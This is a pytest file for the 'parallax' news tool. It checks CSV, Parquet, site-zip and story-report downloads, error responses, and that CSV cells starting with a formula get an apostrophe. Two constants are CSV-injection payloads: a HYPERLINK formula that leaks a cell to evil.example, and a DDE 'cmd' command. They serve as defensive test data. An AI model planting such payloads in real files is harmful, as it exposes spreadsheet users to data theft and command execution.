"""Downloads through the API: the command line's CSV, Parquet and site exports, one story's report, formula-safe
CSV cells, and the error shape when pyarrow is missing."""

from __future__ import annotations

import csv
import io
import json
import sys
import zipfile
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from typer.testing import CliRunner

from parallax.cli import app
from parallax.pipeline import analyze
from parallax.serve import create_app
from parallax.store import Store

EXAMPLE = Path(__file__).resolve().parent.parent / "examples" / "karabakh-2023"
FORMULA_TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'
FORMULA_OUTLET = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.fixture(scope="module")
def db(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("exports")
    inputs = folder / "inputs"
    inputs.mkdir()
    (inputs / "formula.txt").write_text("Ferry services resumed on Monday after the storm, the port said. " * 4)
    metadata = {"formula.txt": {"title": FORMULA_TITLE, "outlet": FORMULA_OUTLET, "published": "2023-03-02"}}
    (inputs / ".parallax-metadata.json").write_text(json.dumps(metadata))
    path = folder / "p.db"
    with Store.open(path) as store:
        analyze([EXAMPLE, inputs], store)
    return path


@pytest.fixture(scope="module")
def client(db: Path) -> TestClient:
    return TestClient(create_app(db))


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def _cli_export(db: Path, out: Path, *extra: str) -> None:
    result = CliRunner().invoke(app, ["export", "--db", str(db), "--out", str(out), *extra])
    assert result.exit_code == 0, result.output


def test_csv_downloads_are_the_command_lines_files(client: TestClient, db: Path, tmp_path: Path) -> None:
    _cli_export(db, tmp_path, "--format", "csv")
    for name in ("facts.csv", "articles.csv"):
        response = client.get(f"/api/export/{name}")
        assert response.status_code == 200
        assert response.headers["content-type"] == "text/csv; charset=utf-8"
        assert response.headers["content-disposition"] == f'attachment; filename="{name}"'
        assert response.content == (tmp_path / name).read_bytes()


def test_articles_csv_lists_every_article_with_its_stories(client: TestClient) -> None:
    rows = _rows(client.get("/api/export/articles.csv").text)
    articles = {
        a for s in client.get("/api/stories").json()["items"] for a in client.get(s["href"]).json()["article_ids"]
    }
    assert {row["id"] for row in rows} >= articles
    july = next(s for s in client.get("/api/stories").json()["items"] if s["articles"] == 4)
    assert sum(1 for row in rows if july["id"] in row["story_ids"].split("; ")) == 4


def test_formula_cells_get_an_apostrophe_unless_raw(client: TestClient) -> None:
    safe = {row["outlet"]: row for row in _rows(client.get("/api/export/articles.csv").text)}
    hostile = safe["'" + FORMULA_OUTLET]
    assert hostile["title"] == "'" + FORMULA_TITLE
    # Cells that do not start with a formula character are untouched.
    assert all(not row["title"].startswith("'") for outlet, row in safe.items() if outlet != "'" + FORMULA_OUTLET)
    raw = {row["outlet"]: row for row in _rows(client.get("/api/export/articles.csv", params={"raw": "true"}).text)}
    assert raw[FORMULA_OUTLET]["title"] == FORMULA_TITLE


def test_cli_csv_raw_keeps_stored_values(db: Path, tmp_path: Path) -> None:
    _cli_export(db, tmp_path / "safe", "--format", "csv")
    _cli_export(db, tmp_path / "raw", "--format", "csv", "--csv-raw")
    safe = _rows((tmp_path / "safe" / "articles.csv").read_text(encoding="utf-8"))
    raw = _rows((tmp_path / "raw" / "articles.csv").read_text(encoding="utf-8"))
    assert "'" + FORMULA_TITLE in [row["title"] for row in safe]
    assert FORMULA_TITLE in [row["title"] for row in raw]
    assert "'" + FORMULA_TITLE not in [row["title"] for row in raw]


def test_parquet_downloads_keep_raw_values(client: TestClient) -> None:
    pytest.importorskip("pyarrow", reason="pyarrow is not installed: pip install 'parallax-news[parquet]'")
    import pyarrow.parquet as pq

    response = client.get("/api/export/articles.parquet")
    assert response.status_code == 200
    assert response.headers["content-type"] == "application/vnd.apache.parquet"
    table = pq.read_table(io.BytesIO(response.content)).to_pylist()
    assert FORMULA_TITLE in [row["title"] for row in table]
    facts = pq.read_table(io.BytesIO(client.get("/api/export/facts.parquet").content)).to_pylist()
    assert len(facts) == len(_rows(client.get("/api/export/facts.csv").text)) > 0


def test_parquet_without_pyarrow_answers_501_with_the_install_hint(
    client: TestClient, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setitem(sys.modules, "pyarrow", None)  # makes `import pyarrow` raise ImportError
    for name in ("facts.parquet", "articles.parquet"):
        response = client.get(f"/api/export/{name}")
        assert response.status_code == 501
        body = response.json()
        assert set(body) == {"error"} and body["error"]["status"] == 501
        assert "pip install 'parallax-news[parquet]'" in body["error"]["message"]


def test_site_zip_holds_the_command_lines_site(client: TestClient, db: Path, tmp_path: Path) -> None:
    _cli_export(db, tmp_path, "--format", "site")
    response = client.get("/api/export/site.zip")
    assert response.status_code == 200
    assert response.headers["content-type"] == "application/zip"
    assert 'filename="parallax-site.zip"' in response.headers["content-disposition"]
    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
        zipped = {name.removeprefix("parallax-site/"): archive.read(name) for name in archive.namelist()}
    on_disk = {p.relative_to(tmp_path).as_posix(): p.read_bytes() for p in tmp_path.rglob("*.html")}
    assert zipped == on_disk
    assert "index.html" in zipped


def test_story_report_json_and_markdown(client: TestClient) -> None:
    july = next(s for s in client.get("/api/stories").json()["items"] if s["articles"] == 4)
    story = client.get(f"/api/stories/{july['id']}").json()
    report = client.get(f"/api/stories/{july['id']}/report.json")
    assert report.status_code == 200
    assert f'filename="report-{july["id"]}.json"' in report.headers["content-disposition"]
    document = report.json()
    assert document["schema_version"] == 1
    assert document["stories"] == [story]
    assert sorted(a["id"] for a in document["articles"]) == sorted(story["article_ids"])
    assert all(not a["source"].startswith("/") for a in document["articles"])
    markdown = client.get(f"/api/stories/{july['id']}/report.md")
    assert markdown.headers["content-type"] == "text/markdown; charset=utf-8"
    assert markdown.text.startswith("# parallax report")
    assert "### Facts" in markdown.text
    assert all(f"`{article_id}`" in markdown.text for article_id in story["article_ids"])


def test_story_facts_csv_has_one_row_per_fact(client: TestClient) -> None:
    july = next(s for s in client.get("/api/stories").json()["items"] if s["articles"] == 4)
    facts = client.get(f"/api/stories/{july['id']}").json()["facts"]
    rows = _rows(client.get(f"/api/stories/{july['id']}/facts.csv").text)
    assert [row["fact"].removeprefix("'") for row in rows] == [fact["text"] for fact in facts]
    assert {row["story_id"] for row in rows} == {july["id"]}


def test_unknown_story_downloads_answer_404_in_the_error_shape(client: TestClient) -> None:
    for suffix in ("report.json", "report.md", "facts.csv"):
        response = client.get(f"/api/stories/nope/{suffix}")
        assert response.status_code == 404
        assert response.json()["error"]["status"] == 404


def test_downloads_are_listed_in_openapi(client: TestClient) -> None:
    paths = client.get("/openapi.json").json()["paths"]
    for path in (
        "/api/export/facts.csv",
        "/api/export/articles.csv",
        "/api/export/facts.parquet",
        "/api/export/articles.parquet",
        "/api/export/site.zip",
        "/api/stories/{story_id}/report.json",
        "/api/stories/{story_id}/report.md",
        "/api/stories/{story_id}/facts.csv",
    ):
        assert "get" in paths[path], path
    assert "text/csv" in paths["/api/export/facts.csv"]["get"]["responses"]["200"]["content"]
    assert "501" in paths["/api/export/facts.parquet"]["get"]["responses"]


def test_home_and_story_pages_link_to_the_downloads(client: TestClient) -> None:
    home = client.get("/").text
    downloads = home.split('data-testid="store-downloads">', 1)[1].split("</p>", 1)[0]
    links = ["facts.csv", "articles.csv", "facts.parquet", "articles.parquet", "site.zip"]
    assert all(f'href="/api/export/{name}"' in downloads for name in links)
    july = next(s for s in client.get("/api/stories").json()["items"] if s["articles"] == 4)
    page = client.get(f"/stories/{july['id']}").text
    for name in ("report.json", "report.md", "facts.csv"):
        href = f"/api/stories/{july['id']}/{name}"
        assert f'href="{href}"' in page
        assert client.get(href).status_code == 200
